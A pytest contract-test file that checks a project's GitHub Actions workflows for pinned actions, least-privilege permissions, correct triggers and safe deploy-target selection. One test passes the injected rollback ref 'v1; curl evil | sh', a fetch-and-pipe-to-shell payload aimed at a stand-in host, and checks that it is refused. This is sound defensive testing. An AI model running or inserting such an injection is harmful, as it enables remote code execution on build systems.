"""The GitHub workflows, statically: triggers, environments, permissions, pins, make targets."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.contract.conftest import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
NAMES = ["build", "deploy", "security", "test", "validate"]
PINNED = re.compile(r"^\s*-?\s*uses:\s*([\w.-]+/[\w./-]+)@([0-9a-f]{40}) # v\d+(\.\d+)*\s*$")
MAKE_OPTIONS = {"--no-print-directory", "-s", "--silent"}


def _load(name: str) -> dict[str, Any]:
    """A workflow as data (`on` is YAML 1.1's True to PyYAML: normalised back)."""
    data = yaml.safe_load((WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8"))
    if True in data:
        data["on"] = data.pop(True)
    return dict(data)


def _steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    """Every step of every job."""
    return [s for job in workflow["jobs"].values() for s in job.get("steps", [])]


def _make_targets() -> set[str]:
    """The targets the Makefile defines."""
    text = (ROOT / "Makefile").read_text(encoding="utf-8")
    return {m.group(1) for m in re.finditer(r"^([A-Za-z][\w-]*)\s*:(?!=)", text, re.M)}


def _called_targets(run: str, matrix: dict[str, Any]) -> set[str]:
    """The make targets a run: script calls (a "$TARGET" from the matrix counts as its values)."""
    targets: set[str] = set()
    for line in run.splitlines():
        match = re.search(r"\bmake\s+(.*)", line.split("#")[0])
        if not match:
            continue
        for raw in match.group(1).split():
            word = raw.strip("\"')")
            if word in MAKE_OPTIONS:
                continue
            if "=" in word or word.startswith((">", "|", "&", ")")):
                break
            if word.startswith("$"):
                targets.update(matrix.get("target", []))
            else:
                targets.add(word)
    return targets


def test_there_are_exactly_the_five_workflows() -> None:
    """GIVEN .github/workflows THEN validate, test, build, deploy, security."""
    assert sorted(p.stem for p in WORKFLOWS.glob("*.yml")) == NAMES


def test_triggers() -> None:
    """GIVEN each workflow THEN it runs on the events the release process needs."""
    assert set(_load("validate")["on"]) == {"push", "pull_request"}
    assert set(_load("test")["on"]) == {"pull_request", "workflow_call"}
    assert set(_load("build")["on"]) == {"workflow_call"}
    deploy = _load("deploy")["on"]
    assert set(deploy) == {"push", "release", "workflow_dispatch"}
    assert deploy["push"]["branches"] == ["develop", "main"]
    assert deploy["release"]["types"] == ["published"]
    assert deploy["workflow_dispatch"]["inputs"]["ref"]["required"] is True
    security = _load("security")["on"]
    assert set(security) == {"schedule", "workflow_dispatch"}
    assert re.fullmatch(r"\d+ \d+ \* \* \d", security["schedule"][0]["cron"])  # weekly


@pytest.mark.parametrize("name", NAMES)
def test_permissions_are_least_privilege(name: str) -> None:
    """GIVEN a workflow THEN nothing by default; each job asks only for what it uses."""
    workflow = _load(name)
    assert workflow["permissions"] == {}
    for job_id, job in workflow["jobs"].items():
        permissions = job["permissions"]
        assert set(permissions.values()) <= {"read", "write"}, job_id
        writes = {k for k, v in permissions.items() if v == "write"}
        if name == "deploy" and job_id == "deploy":
            assert writes == {"id-token"}
        else:
            assert not writes, (name, job_id)


@pytest.mark.parametrize("name", NAMES)
def test_actions_are_pinned_to_commits(name: str) -> None:
    """GIVEN every `uses:` THEN a full commit SHA with its version, or a workflow of this repo."""
    lines = [ln for ln in (WORKFLOWS / f"{name}.yml").read_text().splitlines()
             if re.match(r"^\s*-?\s*uses:", ln)]
    for line in lines:
        if "./.github/workflows/" in line:
            continue
        assert PINNED.match(line), line


@pytest.mark.parametrize("name", NAMES)
def test_no_expression_inside_run(name: str) -> None:
    """GIVEN every run: script THEN no ${{ }} in it: values come in through env."""
    for step in _steps(_load(name)):
        assert "${{" not in step.get("run", ""), step.get("name")


@pytest.mark.parametrize("name", NAMES)
def test_every_make_target_called_exists(name: str) -> None:
    """GIVEN the run: scripts THEN each make target they call is in the Makefile."""
    defined = _make_targets()
    workflow = _load(name)
    called: set[str] = set()
    for job in workflow["jobs"].values():
        matrix = job.get("strategy", {}).get("matrix", {})
        for step in job.get("steps", []):
            called |= _called_targets(step.get("run", ""), matrix)
    assert called <= defined, called - defined
    if name != "build":
        assert called


def test_validate_runs_every_lint_group() -> None:
    """GIVEN validate THEN its matrix is exactly what `make lint` runs."""
    (job,) = _load("validate")["jobs"].values()
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    lint = re.search(r"^lint:(.*)$", makefile, re.M)
    assert lint is not None
    assert job["strategy"]["matrix"]["target"] == lint.group(1).split()


def test_test_matrix_and_coverage_floor() -> None:
    """GIVEN test THEN every suite on 3.12 and 3.13, then a combined report with a floor."""
    jobs = _load("test")["jobs"]
    matrix = jobs["suite"]["strategy"]["matrix"]
    assert matrix["python"] == ["3.12", "3.13"]
    assert set(matrix["suite"]) == {"unit", "handlers", "integration", "contract", "reliability",
                                    "security"}
    assert all((ROOT / "tests" / s).is_dir() for s in matrix["suite"])
    assert jobs["coverage"]["needs"] == "suite"
    assert any("make coverage-report" in s.get("run", "") for s in jobs["coverage"]["steps"])
    assert "--fail-under=$(COVERAGE_FLOOR)" in (ROOT / "Makefile").read_text()


def test_deploy_job_assumes_the_environment_role_and_never_overlaps() -> None:
    """GIVEN the deploy job THEN OIDC role, its environment, one deploy per env at a time."""
    jobs = _load("deploy")["jobs"]
    job = jobs["deploy"]
    assert job["needs"] == ["target", "test", "build"]
    assert job["environment"] == "${{ needs.target.outputs.github_env }}"
    assert job["concurrency"] == {"group": "deploy-${{ needs.target.outputs.env }}",
                                  "cancel-in-progress": False}
    (creds,) = [s for s in job["steps"] if "configure-aws-credentials" in s.get("uses", "")]
    assert set(creds["with"]) == {"role-to-assume", "aws-region", "role-session-name"}
    assert "secrets." in creds["with"]["role-to-assume"]
    called = [_called_targets(s.get("run", ""), {}) for s in job["steps"]]
    order = [next(i for i, c in enumerate(called) if t in c)
             for t in ("image-push", "image-scan", "deploy", "smoke", "notify-slack")]
    assert order == sorted(order)
    assert job["steps"][-1]["if"] == "always()"
    assert jobs["test"]["uses"] == "./.github/workflows/test.yml"
    assert jobs["build"]["uses"] == "./.github/workflows/build.yml"


def _pick(event: str, ref: str, inputs: dict[str, str], tmp_path: Path) -> dict[str, str]:
    """Run the deploy workflow's `pick` script as GitHub would; its outputs."""
    (step,) = _load("deploy")["jobs"]["target"]["steps"]
    output = tmp_path / "out"
    output.write_text("")
    env = {**os.environ, "EVENT": event, "GIT_REF": ref, "SHA": "a" * 40,
           "INPUT_ENV": inputs.get("environment", ""), "INPUT_REF": inputs.get("ref", ""),
           "GITHUB_OUTPUT": str(output)}
    done = subprocess.run(["bash", "-e", "-c", step["run"]], env=env, check=False,
                          capture_output=True, text=True)
    if done.returncode:
        return {"error": done.stderr.strip()}
    return dict(line.split("=", 1) for line in output.read_text().splitlines())


@pytest.mark.parametrize(("event", "ref", "inputs", "expected"), [
    ("push", "refs/heads/develop", {}, {"env": "dev", "github_env": "", "ref": "a" * 40}),
    ("push", "refs/heads/main", {}, {"env": "staging", "github_env": "staging",
                                     "ref": "a" * 40}),
    ("release", "refs/tags/v1.4.0", {}, {"env": "prod", "github_env": "production",
                                         "ref": "a" * 40}),
    ("workflow_dispatch", "refs/heads/main", {"environment": "prod", "ref": "v1.3.2"},
     {"env": "prod", "github_env": "production", "ref": "v1.3.2"}),
])
def test_each_event_deploys_its_environment(event: str, ref: str, inputs: dict[str, str],
                                            expected: dict[str, str], tmp_path: Path) -> None:
    """GIVEN a push, a release or a rollback THEN the right environment and ref."""
    assert _pick(event, ref, inputs, tmp_path) == expected


def test_a_hostile_rollback_ref_is_refused(tmp_path: Path) -> None:
    """GIVEN a dispatch `ref` with shell syntax THEN the pick step fails and deploys nothing."""
    result = _pick("workflow_dispatch", "refs/heads/main",
                   {"environment": "dev", "ref": "v1; curl evil | sh"}, tmp_path)
    assert "ref is not a tag, branch or commit" in result["error"]
    result = _pick("push", "refs/heads/feature", {}, tmp_path)
    assert "nothing to deploy" in result["error"]


def test_build_produces_image_sbom_and_scan() -> None:
    """GIVEN build THEN arm64 buildx with a cache, an SBOM and a scan, as artifacts."""
    image = _load("build")["jobs"]["image"]
    by_use = {s.get("uses", "").split("@")[0]: s for s in image["steps"]}
    buildx = by_use["docker/build-push-action"]["with"]
    assert buildx["platforms"] == "linux/arm64"
    assert buildx["cache-from"] == "type=gha"
    assert buildx["file"] == "container/Dockerfile"
    assert "anchore/sbom-action" in by_use and "anchore/scan-action" in by_use
    assert by_use["anchore/scan-action"]["with"]["fail-build"] is True
    package = _load("build")["jobs"]["package"]
    assert any("make build layer" in s.get("run", "") for s in package["steps"])


def test_deploy_finds_the_build_artifacts_where_make_expects_them() -> None:
    """GIVEN build's uploads THEN deploy downloads them back to the paths make reads."""
    uploads = {s["with"]["name"]: s["with"]["path"].split()
               for job in _load("build")["jobs"].values() for s in job["steps"]
               if "upload-artifact" in s.get("uses", "")}
    downloads = {s["with"]["name"]: s["with"]["path"] for s in _load("deploy")["jobs"]["deploy"][
        "steps"] if "download-artifact" in s.get("uses", "")}
    # an artifact keeps paths relative to the uploads' common directory
    assert uploads["image"] == ["build/image.oci.tar", "build/image.sbom.spdx.json"]
    assert downloads["image"] == "build"
    assert "build/image.oci.tar" in (ROOT / "Makefile").read_text()
    assert uploads["sam-build"] == [".aws-sam/build/", "build/layer.zip"]
    assert downloads["sam-build"] == "."
